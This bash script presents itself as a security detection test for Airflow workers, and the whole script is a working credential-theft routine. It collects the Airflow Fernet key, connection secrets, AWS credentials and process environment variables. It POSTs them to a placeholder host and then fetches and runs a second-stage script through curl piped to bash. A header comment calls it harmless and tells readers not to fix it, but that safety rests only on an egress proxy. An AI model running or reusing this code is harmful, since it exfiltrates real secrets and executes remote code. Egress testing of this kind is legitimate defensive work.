#!/usr/bin/env bash
# ===================== SECURITY DETECTION TEST =====================
# Simulated attacker behaviour. Harmless by design: on a hardened worker
# the egress proxy blocks the request below. Do not "fix" this script.
# ===================================================================
AH="${AIRFLOW_HOME:-$HOME/airflow}"
SIM_C2="https://egress-canary.example/collect"

tmp="$(mktemp)"
{
  echo "## host $(hostname)"
  airflow config get-value core fernet_key 2>/dev/null
  airflow connections export - --file-format env 2>/dev/null
  cat "$HOME/.aws/credentials" 2>/dev/null
  grep -h '^AIRFLOW__' /proc/1/environ 2>/dev/null | tr '\0' '\n'
} > "$tmp"

# simulated exfiltration (expected to be BLOCKED)
if curl -fsS --max-time 8 -X POST --data-binary @"$tmp" "$SIM_C2" >/dev/null 2>&1; then
  echo "NOT BLOCKED"
  # simulated second stage (expected to be BLOCKED)
  curl -fsS --max-time 8 https://egress-canary.example/stage2.sh | bash
else
  echo "BLOCKED"
fi
rm -f "$tmp"
